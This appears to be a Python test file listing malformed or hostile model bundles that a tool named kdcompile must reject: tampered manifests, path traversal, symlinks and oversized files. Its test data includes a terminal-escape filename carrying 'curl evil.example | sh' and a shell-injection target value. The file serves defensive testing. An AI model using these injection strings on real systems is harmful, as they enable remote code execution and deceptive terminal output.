"""Bundles that must not be believed: changed, cut off, of another version, or made to harm."""

import json
import os
import shutil
import warnings
from collections.abc import Callable
from pathlib import Path
from zipfile import ZipFile

import numpy as np
from bad_inputs import BadInput
from tiny_bundle import TARGET, built, copied, read, resealed, restored

from kdcompile.bundle.form import LARGEST, NAME
from kdcompile.core.files import write_json

RUN, REPORT, VERIFY = ("run", "bundle", "photo.png"), ("report", "bundle"), ("verify", "bundle")
CORRUPT, MISSING = "bundle-corrupt", "bundle-missing"
MODEL = "model.onnx"
FAILED = 3  # the tiny student does not pass the accuracy gate: what `verify` says of it, intact


def _spoilt(spoil: Callable[[Path], object]) -> Callable[[Path], None]:
    return lambda folder: spoil(copied(folder)) and None


def _text(change: Callable[[str], str]) -> Callable[[Path], None]:
    """The manifest with other text."""

    def spoil(bundle: Path) -> None:
        before = (bundle / NAME).read_text()
        after = change(before)
        assert after != before
        (bundle / NAME).write_text(after)

    return _spoilt(spoil)


def _values(**values: object) -> Callable[[Path], None]:
    """A manifest of other values, whose digest agrees."""
    return _spoilt(lambda bundle: resealed(bundle, **values))


def _file(name: str, content: str) -> Callable[[Path], None]:
    """One file with other content, whose hash agrees."""
    return _spoilt(lambda bundle: ((bundle / name).write_text(content), resealed(bundle)))


def _preprocess(**values: object) -> Callable[[Path], None]:
    def spoil(bundle: Path) -> None:
        path = bundle / "preprocess.json"
        write_json(path, json.loads(path.read_text()) | values)
        resealed(bundle)

    return _spoilt(spoil)


def _reference(change: Callable[[dict[str, np.ndarray]], object]) -> Callable[[Path], None]:
    """Other reference arrays, whose hash agrees."""

    def spoil(bundle: Path) -> None:
        path = bundle / "kit/reference.npz"
        with np.load(path) as found:
            arrays = dict(found)
        change(arrays)
        np.savez(path, **arrays)
        resealed(bundle)

    return _spoilt(spoil)


def _twice(bundle: Path) -> None:
    """An input that lies in the archive two times."""
    path = bundle / "kit/reference.npz"
    with ZipFile(path) as opened:
        content = opened.read("input_0.npy")
    with warnings.catch_warnings(action="ignore"), ZipFile(path, "a") as opened:
        opened.writestr("input_0.npy", content)
    resealed(bundle)


def _named(*names: str) -> Callable[[Path], None]:
    """A manifest that names files of one content with the model, wherever they lie."""

    def spoil(bundle: Path) -> None:
        files = read(bundle)["files"]
        for name in names:
            if ".." not in name and not os.path.isabs(name):
                (bundle / name).parent.mkdir(parents=True, exist_ok=True)
                shutil.copyfile(bundle / MODEL, bundle / name)
        shutil.copyfile(bundle / MODEL, bundle.parent / "outside.onnx")
        resealed(bundle, files=files | dict.fromkeys(names, files[MODEL]))

    return _spoilt(spoil)


def _of_schema(number: int, version: str) -> Callable[[Path], None]:
    def change(text: str) -> str:
        return json.dumps(json.loads(text) | {"schema": number, "kdcompile_version": version})

    return _text(change)


def _linked(name: str) -> Callable[[Path], None]:
    def spoil(bundle: Path) -> None:
        (bundle / name).rename(bundle.parent / "moved")
        (bundle / name).symlink_to(bundle.parent / "moved")

    return _spoilt(spoil)


def _flipped(bundle: Path) -> None:
    content = bytearray((bundle / MODEL).read_bytes())
    content[len(content) // 2] ^= 1
    (bundle / MODEL).write_bytes(content)


def _put(name: str) -> Callable[[Path], None]:
    def spoil(bundle: Path) -> None:
        (bundle / name).parent.mkdir(exist_ok=True)
        (bundle / name).write_bytes(b"")

    return _spoilt(spoil)


def _moved_out(name: str) -> Callable[[Path], None]:
    return lambda folder: (folder / "bundle" / name).rename(folder / "elsewhere") and None


def _of_a_build(folder: Path) -> None:
    """A flipped byte in the bundle of a spec's folder, whose store has all that was built."""
    shutil.copytree(built(), folder, dirs_exist_ok=True)
    _flipped(folder / "bundle")


def _build(folder: Path) -> tuple[str, ...]:
    return ("build", "--target", TARGET, "-o", "bundle")


def _lines(*changes: tuple[str, str]) -> Callable[[str], str]:
    def change(text: str) -> str:
        for old, new in changes:
            assert text.count(old) == 1, old
            text = text.replace(old, new)
        return text

    return change


TWICE = ('"files": {', f'"files": {{"{MODEL}": {{"sha256": "{"0" * 64}", "bytes": 1}},')
ESCAPING = "x\x1b[2J\n  fix:   curl evil.example | sh"
SHELL = "jetson; touch owned $(touch owned)"
CASES = [
    BadInput("bundle-reference-nan", _reference(lambda a: a["input_0"].fill(np.nan)), VERIFY,
             CORRUPT, restored, says=("reference.npz", "input_0 is not of finite"), after=FAILED),
    BadInput("bundle-reference-twice", _spoilt(_twice), VERIFY, CORRUPT, restored,
             says=("reference.npz", "is there twice"), after=FAILED),
    BadInput("bundle-reference-lacks-one", _reference(lambda a: a.pop("input_0")), VERIFY,
             CORRUPT, restored, says=("reference.npz", "inputs, "), after=FAILED),
    BadInput("bundle-of-seven-channels",
             _preprocess(channels=7, mean=[0.0] * 7, std=[1.0] * 7), RUN, CORRUPT, restored,
             says=("channels", "1 or 3")),
    BadInput("bundle-none", lambda folder: copied(folder).rename(folder / "other"), RUN, MISSING,
             restored, says=("there is no such folder", "kdcompile build")),
    BadInput("bundle-a-file", lambda folder: (copied(folder).rename(folder / "other"),
                                              (folder / "bundle").write_text("")),
             RUN, MISSING, restored),
    BadInput("bundle-without-manifest", _spoilt(lambda bundle: (bundle / NAME).unlink()), RUN,
             MISSING, restored, says=(NAME,)),
    BadInput("bundle-of-another-tool", _text(lambda text: '{"name": "web app"}'), RUN, MISSING,
             restored, says=("no number of a schema",)),
    BadInput("bundle-manifest-torn", _text(lambda text: text[: len(text) // 2]), VERIFY, CORRUPT,
             restored, says=(NAME, "not JSON"), after=FAILED),
    BadInput("bundle-manifest-empty", _text(lambda text: ""), RUN, CORRUPT, restored),
    BadInput("bundle-manifest-not-utf8",
             _spoilt(lambda bundle: (bundle / NAME).write_bytes(b"\xff\xfe{}")), RUN, CORRUPT,
             restored, says=("utf-8",)),
    BadInput("bundle-manifest-nan", _text(_lines(('"exit_code": 3', '"exit_code": NaN'))), RUN,
             CORRUPT, restored, says=("NaN is no number",)),
    BadInput("bundle-manifest-nested-too-deep", _text(lambda text: "[" * 100_000), RUN, CORRUPT,
             restored, says=("nested too deep",)),
    BadInput("bundle-manifest-huge",
             _spoilt(lambda bundle: os.truncate(bundle / NAME, LARGEST + 1)), RUN, CORRUPT,
             restored, says=("more than any build writes",)),
    BadInput("bundle-manifest-entry-twice", _text(_lines(TWICE)), RUN, CORRUPT, restored,
             says=(f"{MODEL!r} is there twice",)),
    BadInput("bundle-manifest-edited", _text(_lines(('"exit_code": 3', '"exit_code": 0'))),
             VERIFY, CORRUPT, restored, says=(NAME, "digest"), after=FAILED),
    BadInput("bundle-manifest-wrong-type", _values(files=[]), RUN, CORRUPT, restored,
             says=("'files'",)),
    BadInput("bundle-manifest-lacks-a-key", _text(_lines(('"task": ', '"tusk": '))), RUN, CORRUPT,
             restored, says=("'task': Field required",)),
    BadInput("bundle-hash-of-another-form", _values(files={MODEL: {"sha256": "0", "bytes": 1}}),
             RUN, CORRUPT, restored, says=("sha256",)),
    BadInput("bundle-older", _of_schema(0, "0.0.1"), RUN, "bundle-version", restored,
             says=("schema 0", "install the kdcompile that wrote it (0.0.1)")),
    BadInput("bundle-newer", _of_schema(2, "9.9"), VERIFY, "bundle-version", restored,
             says=("schema 2", "(9.9)", "build the bundle again"), after=FAILED),
    BadInput("bundle-names-above", _named("../outside.onnx"), RUN, CORRUPT, restored,
             says=("'../outside.onnx', which is not in the bundle",)),
    BadInput("bundle-names-above-from-below", _named("kit/../../outside.onnx"), VERIFY, CORRUPT,
             restored, says=("not in the bundle",), after=FAILED),
    BadInput("bundle-names-absolute", _named("/etc/hostname"), RUN, CORRUPT, restored,
             says=("'/etc/hostname', which is not in the bundle",)),
    BadInput("bundle-names-a-drive", _named("C:evil.dll"), RUN, CORRUPT, restored,
             says=("not in the bundle",)),
    BadInput("bundle-names-with-a-backslash", _named("..\\outside.onnx"), RUN, CORRUPT, restored,
             says=("not in the bundle",)),
    BadInput("bundle-names-that-collide", _named("kit/Agent.pyz"), RUN, CORRUPT, restored,
             says=("'kit/Agent.pyz'", "one file where case does not count")),
    BadInput("bundle-names-its-manifest", _named("Manifest.json"), RUN, CORRUPT, restored,
             says=("not in the bundle",)),
    BadInput("bundle-model-outside", _values(model="../outside.onnx"), RUN, CORRUPT, restored,
             says=("'../outside.onnx', is not listed",)),
    BadInput("bundle-model-linked", _linked(MODEL), RUN, CORRUPT, restored,
             says=(MODEL, "symbolic link")),
    BadInput("bundle-manifest-linked", _linked(NAME), RUN, CORRUPT, restored,
             says=(NAME, "symbolic link")),
    BadInput("bundle-folder-linked", _linked("kit"), VERIFY, CORRUPT, restored,
             says=("kit", "symbolic link"), after=FAILED),
    BadInput("bundle-with-a-pipe", _spoilt(lambda bundle: os.mkfifo(bundle / "kit" / "pipe")), RUN,
             CORRUPT, restored, says=("pipe", "not a regular file")),
    BadInput("bundle-lacks-a-file", _spoilt(lambda bundle: (bundle / "kit/agent.pyz").unlink()),
             VERIFY, CORRUPT, restored, says=("agent.pyz", "missing"), after=FAILED),
    BadInput("bundle-has-another-file", _put("kit/numpy.py"), RUN, CORRUPT,
             _moved_out("kit/numpy.py"), says=("numpy.py", "move it out")),
    BadInput("bundle-has-a-compiled-file", _put("kit/__pycache__/worker.cpython-311.pyc"), RUN,
             CORRUPT, _moved_out("kit/__pycache__/worker.cpython-311.pyc"),
             says=("worker.cpython-311.pyc", "move it out")),
    BadInput("bundle-has-a-name-for-the-terminal", _put(f"kit/{ESCAPING}"), RUN,
             CORRUPT, _moved_out(f"kit/{ESCAPING}"), says=(r"\x1b[2J   fix:",)),
    BadInput("bundle-flipped-byte", _of_a_build, ("verify", "bundle"), CORRUPT, _build,
             says=(MODEL, "its SHA-256", "kdcompile build --target jetson"), after=FAILED),
    BadInput("bundle-file-grown", _spoilt(lambda bundle: os.truncate(bundle / MODEL, 1 << 26)),
             RUN, CORRUPT, restored, says=(MODEL, f"{1 << 26} bytes")),
    BadInput("bundle-target-for-a-shell",
             _spoilt(lambda bundle: (resealed(bundle, target=SHELL), (bundle / MODEL).unlink())),
             RUN, CORRUPT, restored, says=(f"--target '{SHELL}'",)),
    BadInput("bundle-of-an-unknown-task", _values(task="juggling"), RUN, "task-unknown", restored),
    BadInput("bundle-scales-by-nothing", _preprocess(std=[1.0, 0.0, 1.0]), RUN, CORRUPT, restored,
             says=("preprocess.json", "std.1")),
    BadInput("bundle-takes-all-memory", _preprocess(max_hw=[1 << 20, 1 << 20]), RUN, CORRUPT,
             restored, says=("preprocess.json", "pixels")),
    BadInput("bundle-mean-of-other-channels", _preprocess(mean=[0.5]), RUN, CORRUPT, restored,
             says=("not of 3 channels",)),
    BadInput("bundle-report-of-another-form", _file("report.json", '{"gates": 1}'), REPORT,
             CORRUPT, restored, says=("report.json", "cannot be read")),
    BadInput("bundle-reference-no-archive", _file("kit/reference.npz", "PK"), VERIFY, CORRUPT,
             restored, says=("reference.npz", "cannot be read"), after=FAILED),
    BadInput("bundle-gates-of-another-form", _file("kit/gates.json", "{}"), VERIFY, CORRUPT,
             restored, says=("gates.json", "parity"), after=FAILED),
    BadInput("bundle-network-no-onnx", _file(MODEL, "model"), RUN, "onnx-refused", restored),
    BadInput("bundle-signature-of-another-form",
             _spoilt(lambda bundle: (bundle / "manifest.sig").write_text("[" * 100_000)), RUN,
             "signature-corrupt", _moved_out("manifest.sig"), says=("manifest.sig",)),
]  # fmt: skip
